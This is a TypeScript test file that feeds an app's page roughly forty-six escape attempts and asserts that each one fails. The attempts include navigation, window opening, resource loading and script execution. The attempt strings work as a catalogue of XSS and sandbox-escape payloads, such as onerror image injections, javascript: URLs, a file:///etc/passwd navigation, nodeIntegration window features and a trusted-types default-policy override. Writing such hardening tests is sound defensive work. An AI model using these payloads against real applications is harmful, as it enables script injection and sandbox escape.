/** Every way out that a script in the page could try, tried in a page that runs whatever it is told. */
import { describe, expect, test } from "vitest";
import type { BareWindow } from "../../support/bare-app";
import { withBareApp } from "../../support/with-bare-app";

const bare = withBareApp();
const { start, page } = bare;

const put = (tag: string, fields: string) =>
  `const e = document.createElement("${tag}"); Object.assign(e, ${fields}); document.body.append(e);`;

describe("going elsewhere", () => {
  const attempts: Readonly<Record<string, string>> = {
    "a link": `const a = document.createElement("a"); a.href = "https://example.org/"; document.body.append(a); a.click();`,
    "a link to a new window": `const a = document.createElement("a"); a.href = "https://example.org/"; a.target = "_blank"; document.body.append(a); a.click();`,
    "window.open": `window.open("https://example.org/");`,
    "window.open of script": `window.open("javascript:alert(1)");`,
    "an address": `location.href = "https://example.org/";`,
    "another page of the app": `location.href = "./page.js";`,
    "a frame": `const f = document.createElement("iframe"); f.src = "https://example.org/"; document.body.append(f);`,
    "an image": `const i = new Image(); i.src = "https://example.org/beacon.png"; document.body.append(i);`,
    "a request": `fetch("https://example.org/").catch(() => undefined);`,
    "a form": `const f = document.createElement("form"); f.action = "https://example.org/"; document.body.append(f); f.submit();`,
    "a script": `const s = document.createElement("script"); s.src = "https://example.org/x.js"; document.body.append(s);`,
    "a script in the page": `const s = document.createElement("script"); s.textContent = "window.pwned = 1"; document.body.append(s);`,
    "a style": `const s = document.createElement("style"); s.textContent = "body { background: url(https://example.org/) }"; document.body.append(s);`,
    "a link to the top": `${put("a", '{ href: "https://example.org/", target: "_top" }')} e.click();`,
    "a link of script": `${put("a", '{ href: "javascript:window.pwned=1" }')} e.click();`,
    "a link that is clicked with the middle button": `${put("a", '{ href: "https://example.org/" }')} e.dispatchEvent(new MouseEvent("click", { button: 1, ctrlKey: true }));`,
    "a link in SVG": `const ns = "http://www.w3.org/2000/svg"; const s = document.createElementNS(ns, "svg"); const a = document.createElementNS(ns, "a"); a.setAttribute("href", "https://example.org/"); s.append(a); document.body.append(s); a.dispatchEvent(new MouseEvent("click", { bubbles: true }));`,
    "a refresh": `const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=https://example.org/"; document.head.append(m);`,
    "a base": `const b = document.createElement("base"); b.href = "https://example.org/"; document.head.append(b);`,
    "a form to the top": `${put("form", '{ action: "https://example.org/", target: "_top", method: "post" }')} e.submit();`,
    "an address of script": `location.href = "javascript:window.pwned=1";`,
    "an address of data": `location.href = "data:text/html,x";`,
    "an address of a file": `location.href = "file:///etc/passwd";`,
    "window.open with features": `window.open("https://example.org/", "", "nodeIntegration=yes,preload=/x.js");`,
    "a frame of text": put("iframe", '{ srcdoc: "<script>parent.pwned=1</script>" }'),
    "a frame of script": put("iframe", '{ src: "javascript:parent.pwned=1" }'),
    "a webview": `const w = document.createElement("webview"); w.setAttribute("src", "https://example.org/"); document.body.append(w);`,
    "an object": put("object", '{ data: "https://example.org/x.swf" }'),
    "an embed": put("embed", '{ src: "https://example.org/x.swf" }'),
    "a style sheet": put("link", '{ rel: "stylesheet", href: "https://example.org/x.css" }'),
    "a font": `new FontFace("x", "url(https://example.org/x.ttf)").load().catch(() => undefined);`,
    "a background": `document.body.style.background = "url(https://example.org/beacon.png)";`,
    "a video": put("video", '{ src: "https://example.org/x.mp4" }'),
    "a beacon": `navigator.sendBeacon("https://example.org/", "x");`,
    "a socket": `new WebSocket("wss://example.org/");`,
    "a stream of events": `new EventSource("https://example.org/");`,
    "a module": `import("https://example.org/x.js").catch(() => undefined);`,
    "a service worker": `navigator.serviceWorker?.register("https://example.org/x.js").catch(() => undefined);`,
    "text as HTML": `document.body.innerHTML = "<img src=x onerror='window.pwned=1'>";`,
    "text as HTML behind": `document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.pwned=1'>");`,
    "text written": `document.write("<img src=x onerror='window.pwned=1'>");`,
    "text run later": `setTimeout("window.pwned = 1");`,
    "a listener of text": `document.body.setAttribute("onclick", "window.pwned=1"); document.body.click();`,
    "a policy of its own": `trustedTypes.createPolicy("mine", { createHTML: (text) => text });`,
    "the policy for all": `trustedTypes.createPolicy("default", { createHTML: (text) => text });`,
    "a worker from a blob": `new Worker(URL.createObjectURL(new Blob(["1"])));`,
  };

  test.each(Object.entries(attempts))("%s leads nowhere", async (_name, script) => {
    await start();
    const first = await page();
    await first.page.evaluate(script).catch(() => undefined);
    // Whatever the attempt started has been refused when a later answer of main is back.
    await bare.app.menuItems();
    const state = await first.page.evaluate(async () => {
      await (window as unknown as BareWindow).argmap.recent();
      return { address: location.pathname, isPwned: "pwned" in window };
    });
    expect(state).toEqual({ address: "/index.html", isPwned: false });
    expect(bare.app.windows).toHaveLength(1);
    // Nothing was let through; that it was tried may be noted.
    for (const problem of bare.takeProblems()) expect(problem).not.toMatch(/let pass|was allowed/);
  });
});
